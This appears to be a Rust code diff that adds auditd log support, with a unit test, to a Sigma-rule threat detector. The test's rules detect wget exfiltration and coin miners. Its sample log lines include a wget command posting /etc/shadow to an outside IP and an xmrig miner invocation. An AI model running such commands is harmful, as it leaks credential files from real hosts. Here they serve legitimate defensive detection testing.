@@ -1,6 +1,6 @@
 //! Sigma rules (SigmaHQ's format) as detectors, for the `webserver`,
 //! `proxy`, `apache` and `nginx` log sources and Linux (`sshd`, `auth`,
-//! `sudo`, `syslog`, …).
+//! `sudo`, `syslog`, `auditd`, …).
 //!
 //! Parsing and matching are rsigma's (`rsigma-parser`, `rsigma-eval`): a
 //! maintained implementation of the specification (modifiers, conditions,
@@ -8,7 +8,8 @@
 //!
 //! - **Fields.** Sigma's web taxonomy names (`cs-uri-query`, `c-useragent`,
 //!   `sc-status`, …) are read from the ECS fields the parsers fill
-//!   ([`sigma_field`]); ECS names work as they are. Keyword rules are
+//!   ([`sigma_field`]), and so are the audit log's keys (`type`, `exe`,
+//!   an `execve`'s `a0`…); ECS names work as they are. Keyword rules are
 //!   matched against the raw line (`event.original`). A rule that needs a
 //!   field no event of ours carries (`cs-cookie`, a request body) is
 //!   refused with that reason rather than loaded to never fire.
@@ -60,7 +61,9 @@ pub enum Family {
 
 /// Datasets of the Linux family (`journal`: a systemd journal record of a
 /// program without a parser of its own, as `syslog` is for a syslog line).
-const LINUX_DATASETS: &[&str] = &["sshd", "auth", "sudo", "syslog", "kernel", "journal"];
+const LINUX_DATASETS: &[&str] = &[
+    "sshd", "auth", "sudo", "syslog", "kernel", "journal", "auditd",
+];
 
 impl Family {
     /// The family `ev` belongs to, if any.
@@ -178,8 +181,55 @@ pub fn sigma_field(name: &str) -> Option<Field> {
         "sc-bytes" => Field::HttpBodyBytes,
         "c-uri-extension" => ecs("url.extension"),
         n if n.contains('.') || n == "message" => Field::resolve(n).ok()?,
+        // the audit log's keys (`service: auditd` rules), where the audit
+        // parser put them: ECS fields for those it names, labels by their
+        // audit names for the rest
+        "exe" => ecs("process.executable"),
+        "comm" => Field::ProcessName,
+        "key" => ecs("rule.name"),
+        "pid" => Field::ProcessPid,
+        "ppid" => ecs("process.parent.pid"),
+        "auid" => ecs("user.id"),
+        "acct" => Field::UserName,
+        "addr" => Field::SourceIp,
+        "proctitle" => ecs("process.command_line"),
+        n if is_audit_label(n) => Field::Label(n.to_owned()),
         _ => return None,
     })
+}
+
+/// Audit keys the parser keeps as labels by their own names (an
+/// `execve`'s arguments `a0`, `a1`, … among them), and the record `type`.
+fn is_audit_label(name: &str) -> bool {
+    let arg =
+        name.len() > 1 && name.starts_with('a') && name[1..].bytes().all(|c| c.is_ascii_digit());
+    arg || matches!(
+        name,
+        "type"
+            | "name"
+            | "nametype"
+            | "syscall"
+            | "uid"
+            | "euid"
+            | "gid"
+            | "egid"
+            | "cwd"
+            | "terminal"
+            | "op"
+            | "res"
+            | "success"
+            | "tty"
+            | "arch"
+            | "exit"
+            | "argc"
+            | "mode"
+            | "ouid"
+            | "inode"
+            | "obj"
+            | "subj"
+            | "saddr"
+            | "sig"
+    )
 }
 
 /// An event as rsigma sees it: fields by Sigma or ECS name, keywords
@@ -410,6 +460,9 @@ fn route(rule: &SigmaRule) -> Option<(Family, Gate)> {
             Some((Family::Linux, Gate::Datasets(vec!["sshd", "auth", "sudo"])))
         }
         (None, Some("linux"), Some("syslog")) => Some((Family::Linux, Gate::Any)),
+        (None, Some("linux"), Some("auditd")) => {
+            Some((Family::Linux, Gate::Datasets(vec!["auditd"])))
+        }
         (None, Some("linux"), Some(other)) => {
             Some((Family::Linux, Gate::Process(other.to_owned())))
         }
@@ -481,6 +534,8 @@ fn techniques(tags: &[String]) -> Vec<String> {
 fn domain_of(family: Family, gate: &Gate) -> Domain {
     match (family, gate) {
         (Family::Web, _) => Domain::Http,
+        // what programs did on a host, not who logged in
+        (Family::Linux, Gate::Datasets(d)) if d == &["auditd"] => Domain::Infrastructure,
         (Family::Linux, Gate::Datasets(_)) => Domain::Identity,
         (Family::Linux, _) => Domain::Infrastructure,
     }
@@ -1205,6 +1260,70 @@ level: high
         let f = out.iter().find(|f| f.status == Status::Open).unwrap();
         assert_eq!(f.offender.value, "web1");
         assert_eq!(f.domain, Domain::Identity);
+    }
+
+    /// SigmaHQ's `lnx_auditd_data_exfil_wget` and `lnx_auditd_coinminer`
+    /// (their detections), on audit records.
+    const AUDIT_RULES: &str = r#"
+title: Data Exfiltration with Wget
+id: cb39d16b-b3b6-4a7a-8222-1cf24b686ffc
+logsource:
+    product: linux
+    service: auditd
+detection:
+    selection:
+        type: EXECVE
+        a0: wget
+        a1|startswith: '--post-file='
+    condition: selection
+level: medium
+---
+title: Possible Coin Miner CPU Priority Param
+id: 071d5e5a-9cef-47ec-bc4e-a42e34d8d0ed
+logsource:
+    product: linux
+    service: auditd
+detection:
+    cmd1:
+        a1|startswith: '--cpu-priority'
+    cmd2:
+        a2|startswith: '--cpu-priority'
+    condition: 1 of cmd*
+level: critical
+"#;
+
+    #[test]
+    fn auditd_rules_read_the_audit_keys_of_audit_records_only() {
+        let load = load_str(AUDIT_RULES, "a.yml");
+        assert_eq!(load.loaded, 2, "{:?}", load.refused);
+        let exfil = "node=db-1 type=EXECVE msg=audit(1772366400.000:10): argc=3 a0=\"wget\" a1=\"--post-file=/etc/shadow\" a2=\"http://198.51.100.7/\"";
+        // hex, as audit writes an argument with a space
+        let miner = "node=db-2 type=EXECVE msg=audit(1772366401.000:11): argc=3 a0=\"./xmrig\" a1=2D2D6370752D7072696F72697479203520 a2=\"-o\"";
+        // the same words in a syslog line are not an audit record
+        let syslog = "Mar  1 12:00:02 db-3 cron[7]: wget --post-file=/etc/shadow --cpu-priority 5";
+        let download = "node=db-4 type=EXECVE msg=audit(1772366402.000:12): argc=2 a0=\"wget\" a1=\"http://deb.debian.org/x\"";
+        let out = run(&[exfil, miner, syslog, download], load);
+        let mut opened: Vec<(&str, &str, Domain)> = out
+            .iter()
+            .filter(|f| f.status == Status::Open)
+            .map(|f| (f.title.as_str(), f.offender.value.as_str(), f.domain))
+            .collect();
+        opened.sort();
+        assert_eq!(
+            opened,
+            vec![
+                (
+                    "Data Exfiltration with Wget",
+                    "db-1",
+                    Domain::Infrastructure
+                ),
+                (
+                    "Possible Coin Miner CPU Priority Param",
+                    "db-2",
+                    Domain::Infrastructure
+                ),
+            ]
+        );
     }
 
     #[test]
